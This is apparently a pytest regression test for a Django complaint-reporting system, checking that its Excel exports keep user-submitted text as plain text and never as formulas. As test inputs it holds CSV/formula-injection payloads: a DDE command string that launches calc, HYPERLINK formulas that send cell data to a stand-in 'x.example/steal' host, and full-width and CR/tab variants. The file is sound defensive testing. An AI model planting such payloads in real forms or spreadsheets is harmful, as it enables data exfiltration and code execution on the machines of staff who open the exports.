"""M1 (issue 11): hostile text sent through the real intake paths (the H5 form, an Open311 POST, the staff
analysis edit) reaches every spreadsheet export as text: no cell is a formula, and the text is kept."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from collections.abc import Callable
from typing import Any
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from eco12369.cases.models import Case
from eco12369.open311.services import api_key_create
from eco12369.orgs.models import Region, User
from eco12369.wechat.simulator import Simulator
from tests.portal.helpers import form_data, oauth_login

pytestmark = pytest.mark.django_db
TZ = ZoneInfo("Asia/Shanghai")

# What a prankster (or an attacker who knows the report goes to the bureau's Excel) types as the company.
PARTIES_OPEN311 = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/steal?d="&A1,"点我查看")',
    "@SUM(1)",
    "-2+3",
    '＝HYPERLINK("http://x.example/steal?d="&A1,"点我查看")',  # full-width, as a Chinese IME types it
]
PARTIES_H5 = ["+86 某化工厂", "\t=1+1 某洗煤厂", "=1+1\r某***公司"]
ANALYSIS = '=HYPERLINK("http://x.example","详情")\n本月接收举报，水污染问题集中。'


def _open311_case(client: Client, key: str, party: str) -> Case:
    response = client.post(
        "/open311/v2/requests.json",
        {
            "api_key": key,
            "service_code": "report_water",
            "lat": "39.1175",
            "long": "117.2103",
            "address_string": party + " 旁边的河沟",
            "description": "河里排黑水，晚上味道特别冲",
            "attribute[district]": "120101",
            "attribute[reported_party]": party,
        },
    )
    assert response.status_code == 200, response.content
    return Case.objects.get(number=response.json()[0]["service_request_id"])


def _h5_case(wechat_simulator: Simulator, openid: str, party: str) -> Case:
    client = Client()
    oauth_login(client, wechat_simulator, openid)
    response = client.post(
        "/portal/report/", form_data(reported_party=party, address=f"和平区{party}门口", district="120101")
    )
    assert response.status_code == 302, response.content[:400]
    return Case.objects.get(number=response["Location"].rstrip("/").rsplit("/", 1)[-1])


def lines(text: str) -> str:
    """A CR is a line break in a cell (XML readers turn a raw CR into LF)."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def _cells(data: bytes) -> list[Any]:
    """Every cell of every sheet, after checking no sheet XML holds a formula element at all."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >]", archive.read(name)), name
    wb = load_workbook(io.BytesIO(data))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def test_hostile_text_reaches_the_monthly_report_excel_as_text(
    tianjin: None, wechat_simulator: Simulator, make_user: Callable[..., User]
) -> None:
    operator = make_user("operator", display_name="和平操作员")
    key = api_key_create(channel="12345热线")[1]
    api = Client()
    cases = [_open311_case(api, key, party) for party in PARTIES_OPEN311]
    cases += [_h5_case(wechat_simulator, f"oFormula{i}", p) for i, p in enumerate(PARTIES_H5)]
    parties = {lines(c.reported_party) for c in cases}
    addresses = {lines(c.address) for c in cases}
    assert any(p.startswith("=") for p in parties) and any(p.startswith("@") for p in parties)
    assert any("\n" in p for p in parties)  # the CR came through the form

    now = dt.datetime.now(TZ)
    month_key = f"{now:%Y-%m}"
    after = (now.replace(day=1) + dt.timedelta(days=32)).replace(day=2, hour=10)
    staff = Client()
    with time_machine.travel(after, tick=False):
        staff.force_login(operator)
        assert staff.post(reverse("stats:generate"), {"month": month_key}).status_code == 302
        region = Region.objects.get(name="和平区")
        edit = reverse("stats:action", args=[region.code, month_key, "edit_analysis"])
        assert staff.post(edit, {"analysis": ANALYSIS}).status_code == 302
        response = staff.get(reverse("stats:export_excel", args=[region.code, month_key]))
    assert response.status_code == 200
    cells = _cells(b"".join(response.streaming_content) if response.streaming else response.content)  # type: ignore[attr-defined]

    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert parties <= texts, parties - texts  # the reported parties, character for character
    assert addresses <= texts, addresses - texts
    assert lines(ANALYSIS.strip()) in texts
    # Excel keeps a cell starting with = + - @ tab or CR (or their full-width forms) as text even when a
    # user edits it.
    dangerous = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@\t\r＝＋－＠"]
    assert any(c.value.startswith("＝HYPERLINK") for c in dangerous)
    assert len(dangerous) >= len(parties) and all(c.quotePrefix for c in dangerous)


def test_the_assessment_export_keeps_a_hostile_district_name_as_text(
    client: Client, make_user: Callable[..., User]
) -> None:
    Region.objects.filter(name="河东区").update(name='=HYPERLINK("http://x.example","河东区")')
    client.force_login(make_user("operator", district_name=None))
    response = client.get(reverse("oversight:assessment_export"))
    assert response.status_code == 200
    cells = _cells(response.content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert '=HYPERLINK("http://x.example","河东区")' in {c.value for c in cells}
